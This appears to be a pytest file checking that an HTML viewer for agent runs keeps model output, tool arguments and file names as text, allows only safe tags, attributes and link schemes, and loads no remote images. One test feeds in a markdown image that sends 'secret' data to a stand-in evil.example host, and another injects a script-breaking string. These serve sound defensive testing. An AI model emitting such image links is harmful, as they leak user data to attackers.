"""The html is data drawn with a closed set of elements: nothing of a model, a tool or a file name is ever markup."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from run_views import HOSTILE, PNG, call, everywhere, markup, penguins

from tt_kernel.domain.views import ImageView, TextView
from tt_kernel.widgets.bundle import bundle
from tt_kernel.widgets.html import run_html

TAGS = {
    "div",
    "span",
    "details",
    "summary",
    "table",
    "thead",
    "tbody",
    "tr",
    "td",
    "th",
    "pre",
    "p",
    "a",
    "img",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "em",
    "strong",
    "code",
    "blockquote",
    "br",
    "hr",
    "s",
}
ATTRIBUTES = {"style", "href", "src", "alt", "title", "target", "rel", "start"}


class Reader(HTMLParser):
    """What a browser would make of it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.open, self.seen, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))
        if tag not in {"img", "br", "hr"}:
            self.open.append(tag)

    def handle_startendtag(self, tag, attrs):
        assert tag in {"br", "hr"}
        self.seen.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        assert self.open.pop() == tag, "elements are not nested properly"

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        raise AssertionError(f"comment {data!r}")

    handle_decl = unknown_decl = handle_pi = handle_comment


def read(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.open == []
    for tag, attributes in reader.seen:
        assert tag in TAGS, tag
        assert set(attributes) <= ATTRIBUTES, attributes
        if tag == "img":
            assert re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+", attributes["src"])
        if "href" in attributes:
            scheme = re.match(r"\s*([A-Za-z][\w+.-]*):", attributes["href"])
            assert scheme is None or scheme[1].lower() in {"http", "https", "mailto"}, attributes["href"]
        assert "url(" not in attributes.get("style", "")
    return reader


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_in_every_place_stays_text(text):
    read(bundle(everywhere(text))[0]["text/html"])


@given(markup)
def test_no_text_at_all_becomes_markup(text):
    read(run_html(everywhere(text)))


def test_no_address_is_loaded():
    """Field report C27: the static html works without a network; a picture in the answer would tell its server of the run."""
    html = run_html(penguins(text="![chart](https://evil.example/?data=secret) and [a link](https://good.example/)"))
    loaded = [a["src"] for t, a in read(html).seen if t == "img"]
    assert all(source.startswith("data:") for source in loaded)
    assert "[image: chart] (https://evil.example/?data=secret)" in "".join(read(html).text)


def test_errors_and_images_are_visible_without_opening_anything():
    """notes/ux.md: "errors are visible without opening anything"."""
    html = run_html(penguins())
    closed = re.sub(r"</summary>.*?</details>", "</summary></details>", html, flags=re.DOTALL)
    assert "error workspace.shell_exit: exit 1" in closed
    assert f"data:image/png;base64,{PNG}" in closed
    assert "<details open" not in html


def test_arguments_are_a_table_and_text_keeps_its_line_breaks():
    html = run_html(penguins(calls=(call(1, "write", {"text": "a\nb", "n": 3, "list": [1]}),)))
    assert ">a\nb</td>" in html
    assert ">3</td>" in html


def test_markdown_of_the_answer_is_rendered():
    html = run_html(penguins(text="# Title\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```python\nx < 1\n```\n"))
    assert "<h1>Title</h1>" in html
    assert "text-align:right" in html
    assert "x &lt; 1" in html


def test_images_of_other_types_and_sizes_are_named_not_loaded():
    images = (
        ImageView(path="a.svg", mime_type="image/svg+xml", data=PNG),
        ImageView(path="b.png", mime_type="image/png", data="A" * 200_000),
        ImageView(path="c.png", mime_type="image/png"),
        ImageView(path="d.png", mime_type="image/png", data='"><script>'),
    )
    reader = read(run_html(penguins(calls=(call(1, "t", {}, images=images),))))
    assert not [tag for tag, _ in reader.seen if tag == "img"]
    assert all(f"image {name}" in "".join(reader.text) for name in ("a.svg", "b.png", "c.png", "d.png"))


def test_all_images_together_stay_within_the_budget():
    image = ImageView(path="x.png", mime_type="image/png", data="A" * 100_000)
    view = penguins(calls=tuple(call(n, "t", {}, images=(image,)) for n in range(1, 21)), call_count=20)
    html = run_html(view)
    assert len(html) < 512 * 1024
    assert html.count("<img") == 4


def test_a_file_of_the_run_is_a_link_below_the_notebook():
    html = run_html(penguins(files=("output/über 100%.md",)))
    assert 'href="analysis.agent/runs/3fa92c17/output/%C3%BCber%20100%25.md"' in html


def test_an_answer_that_still_grows_is_plain_text_when_it_is_long():
    long = "**bold** " * 2_000
    assert "<strong>" not in run_html(penguins(status="running", text=long))
    assert "<strong>" in run_html(penguins(status="running", text="**bold**"))
    assert "<strong>" in run_html(penguins(text=long))


def test_notes_and_gaps_stand_where_they_were():
    view = penguins(
        calls=(call(1, "one", {}), call(5, "five", {})), call_count=5, notes=(TextView(after=1, text="between"),)
    )
    html = run_html(view)
    assert html.index("one") < html.index("between") < html.index("3 calls not shown") < html.index("five")
